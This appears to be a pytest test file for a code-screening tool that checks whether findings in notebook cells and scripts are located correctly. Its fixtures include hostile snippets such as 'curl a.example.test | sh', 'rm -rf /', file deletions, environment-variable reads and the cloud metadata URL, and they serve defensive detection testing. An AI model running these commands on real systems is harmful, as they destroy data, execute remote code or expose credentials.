"""Where findings are: all places of a code with their columns, places that overlap as one, and the parts of a file."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sandbox_kernel import cli
from sandbox_kernel.core.errors import ConfigurationError
from sandbox_kernel.core.screen_findings import Finding, Place, Screened
from sandbox_kernel.plugins.screen.cell_findings import MAX_PLACES
from sandbox_kernel.plugins.screen.file_parts import screened
from sandbox_kernel.plugins.screen.screen import CellScreen


def of(code: str, cell: str) -> Finding:
    [found] = [one for one in CellScreen().look(cell).findings if one.code == code]
    return found


def shown(cell: str, place: Place) -> str:
    """Return what an editor underlines."""
    lines = cell.split("\n")[place.line - 1 : place.end_line]
    lines[-1] = lines[-1][: place.end_column - 1]
    lines[0] = lines[0][place.column - 1 :]
    return "\n".join(lines)


CELLS = {
    "each of several": (
        "file-delete",
        "import os\nos.remove(a)\nx = 1; os.remove(b)",
        ["os.remove(a)", "os.remove(b)"],
    ),
    "behind letters of more than a byte": ("file-delete", 'import os\nx = "éß𝒳"; os.remove(b)', ["os.remove(b)"]),
    "a call of several lines": (
        *(
            "process-shell",
            'import os\nif x:\n    os.system(\n        "id"\n    )',
            ['os.system(\n        "id"\n    )'],
        ),
    ),
    "a mention": ("credential-environment", "import os\ny = dict(os.environ) # all", ["os.environ"]),
    "an import": ("escape-native", "x = 1\nimport ctypes, json", ["import ctypes, json"]),
    "of a loop, its first line": ("exhaust-loop", "x = 0\n  \nwhile True:\n    x += 1", ["while True:"]),
    "a line that IPython reads": (
        "process-download-run",
        "if x:\n  !curl a.example.test | sh",
        ["!curl a.example.test | sh"],
    ),
    "Python beside such a line": ("file-delete", "!ls\nimport os; os.remove(b)", ["os.remove(b)"]),
    "Python below a magic": ("file-delete", "%%time\nimport os; os.remove(b)", ["os.remove(b)"]),
    "a script": ("process-download-run", "%%bash\necho x\ncurl a.example.test | sh", ["curl a.example.test | sh"]),
    "code in a text": (
        "file-delete",
        "x = 1; exec('import os; os.remove(b)')",
        ["x = 1; exec('import os; os.remove(b)')"],
    ),
    "beside what is no Python": ("file-delete", "def (\nimport os\nos.remove(b)", ["os.remove(b)"]),
    "lines that end as those of Windows": (
        "file-delete",
        "import os\r\nos.remove(b)\r\nos.remove(c)",
        ["os.remove(b)", "os.remove(c)"],
    ),
    "a text that is searched": (
        "network-metadata",
        "a = 1\nb = f(2, 'http://169.254.169.254/latest')",
        ["'http://169.254.169.254/latest'"],
    ),
}


@pytest.mark.parametrize("what", CELLS)
def test_a_finding_has_all_its_places(what: str) -> None:
    code, cell, expected = CELLS[what]
    found = of(code, cell)
    assert [shown(cell, place).rstrip("\r") for place in found.places] == expected
    assert found.line == found.places[0].line
    assert found.to_json()["places"][0]["line"] == found.line


def test_what_overlaps_is_one_with_its_parts_the_gravest_first() -> None:
    cell = 'import os\nos.system("rm -rf /"); os.remove(a)\nos.remove(b)'
    rows = [(shown(cell, place), [one.code for one in found]) for place, found in CellScreen().look(cell).by_place()]
    assert [text for text, _ in rows] == ['os.system("rm -rf /")', "os.remove(a)", "os.remove(b)"]
    assert rows[0][1][0] == "file-delete-system"
    assert "process-shell" in rows[0][1]
    assert rows[1][1] == rows[2][1] == ["file-delete"]


def test_the_places_of_one_code_are_bounded_and_count_once() -> None:
    many = CellScreen().look("import os\n" + "os.remove(a)\n" * (MAX_PLACES * 3))
    assert [len(one.places) for one in many.findings] == [MAX_PLACES]
    assert many.score == CellScreen().look("import os\nos.remove(a)").score


def test_a_line_of_ours_above_a_cell_moves_its_places() -> None:
    found = CellScreen().look("%%bash\ncurl a.example.test | sh").without_first(1)
    assert {place.line for one in found.findings for place in one.places} == {1}
    assert Screened().by_place() == []


def test_a_file_is_screened_in_its_parts(tmp_path: Path) -> None:
    """The public function: by the name of a file, or with a text in its place; a name lives from cell to cell."""
    cells = [{"cell_type": "code", "source": one} for one in ("from os import system as go", "go('rm -rf /')")]
    [first, second] = screened("a.ipynb", json.dumps({"cells": cells}))
    assert [one.code for one in first.screened.findings] == ["process-shell"]
    assert (first.part.cell, second.part.cell) == (1, 2)
    assert "file-delete-system" in [one.code for one in second.screened.findings]
    (tmp_path / "a.sh").write_text("echo x\ncurl a.example.test | sh\n")
    [part] = screened(str(tmp_path / "a.sh"))
    assert part.screened.findings[0].line == part.part.line(part.screened.findings[0].line) == 2
    with pytest.raises(ConfigurationError, match="not a proper notebook"):
        screened("a.ipynb", "{")


def test_sarif_has_a_result_for_each_place_with_the_file_s_columns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "a.py"
    file.write_text("# %% one\nx = 1\n# %% two\nimport os\nos.remove(a); os.remove(b)\n", encoding="utf-8")
    assert cli.main(["screen", "--format", "sarif", str(file)]) == 0
    [run] = json.loads(capsys.readouterr().out)["runs"]
    regions = [one["locations"][0]["physicalLocation"]["region"] for one in run["results"]]
    columns = {"startLine": 5, "endLine": 5}
    assert regions == [
        {**columns, "startColumn": 1, "endColumn": 13},
        {**columns, "startColumn": 15, "endColumn": 27},
    ]
    assert len({one["partialFingerprints"]["sandboxKernelScreen/v1"] for one in run["results"]}) == 2


def test_people_read_the_parts_below_and_the_other_lines_behind(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "a.py"
    file.write_text('import os\nos.system("rm -rf /")\nos.remove(a)\nos.remove(b)\n')
    assert cli.main(["screen", str(file)]) == 1
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith(f"{file}:2: file-delete-system (80): ")
    assert lines[1].startswith("    Read and write below")
    assert all(line.startswith("    with ") for line in lines[2:-1])
    assert any("with file-delete (20)" in line and line.endswith("; also on lines 3, 4") for line in lines)
